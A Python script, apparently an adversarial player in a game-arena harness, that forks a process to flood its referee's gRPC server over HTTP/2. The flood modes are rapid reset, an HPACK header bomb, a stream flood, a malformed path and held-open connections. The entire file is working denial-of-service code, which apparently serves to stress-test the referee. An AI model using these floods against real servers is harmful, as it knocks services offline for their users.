"""Speaks HTTP/2 by hand and floods its referee, in a process of its own, before and while it plays.

Its targets name the kind of flood, and how many connections it keeps open; when one is cut, it opens the next.
"""

import os
import socket
import time
from collections.abc import Callable
from contextlib import suppress

from player import TARGETS, begin, play

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS = 1, 3, 4
END_OF_HEADERS = 4
CANCEL = (8).to_bytes(4, "big")
PLAY = b"/referee.v1.RefereeService/Play"
CHUNK = 1 << 16
REQUESTS = 1_000  # on a connection, before the next is opened


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def text(data: bytes) -> bytes:
    """A string of HPACK, not compressed."""
    if len(data) < 127:
        return bytes((len(data),)) + data
    more, length = b"", len(data) - 127
    while length >= 128:
        more, length = more + bytes((length % 128 + 128,)), length // 128
    return b"\x7f" + more + bytes((length,)) + data


def header(path: bytes = PLAY, more: bytes = b"") -> bytes:
    """POST of a gRPC call."""
    plain = {b"content-type": b"application/grpc", b"te": b"trailers"}
    named = b"".join(b"\x00" + text(name) + text(value) for name, value in plain.items())
    return b"\x83\x86\x04" + text(path) + b"\x01" + text(b"localhost") + named + more


def requests(block: bytes, behind: Callable[[int], bytes] = lambda stream: b"") -> bytes:
    """Many requests of the same headers, each with more frames behind it."""
    streams = range(1, 2 * REQUESTS, 2)
    return b"".join(frame(HEADERS, END_OF_HEADERS, stream, block) + behind(stream) for stream in streams)


REPEATED = b"\x40" + text(b"x") + text(b"y" * 4_000) + b"\xbe" * 8_000
"""One header of 4,000 bytes, and 8,000 times a byte that says: that header again."""

FLOODS: dict[str, Callable[[], bytes]] = {
    "bad_path": lambda: frame(HEADERS, END_OF_HEADERS, 1, header(b"/\xff\xfe")),
    "streams": lambda: requests(header()),
    "rapid_reset": lambda: requests(header(), lambda stream: frame(RESET, 0, stream, CANCEL)),
    "header_bomb": lambda: requests(header(more=REPEATED)),
    "connections": lambda: b"",
}


def flood(data: bytes, connections: int, begun: int) -> None:
    """Send it on one connection after the other, as fast as they are taken, keeping some open; tell when it begins."""
    path = os.environ["ARENA_ADDRESS"].removeprefix("unix:")
    held: list[socket.socket] = []
    for number in range(10_000):
        out = socket.socket(socket.AF_UNIX)
        with suppress(OSError):
            out.connect(path)
            out.settimeout(1)  # a connection that is not read is given up for the next
            out.sendall(PREFACE + frame(SETTINGS, 0, 0) + data[:CHUNK])
            if number == 0:
                os.write(begun, b"!")
            for start in range(CHUNK, len(data), CHUNK):
                out.sendall(data[start : start + CHUNK])
                with suppress(BlockingIOError):
                    out.recv(CHUNK, socket.MSG_DONTWAIT)
        held.append(out)
        if len(held) > connections:
            held.pop(0).close()
    time.sleep(3_600)


reading, writing = os.pipe()
if os.fork() == 0:
    flood(FLOODS[TARGETS["kind"]](), TARGETS["connections"], writing)
os.read(reading, 1)
begin()
play()
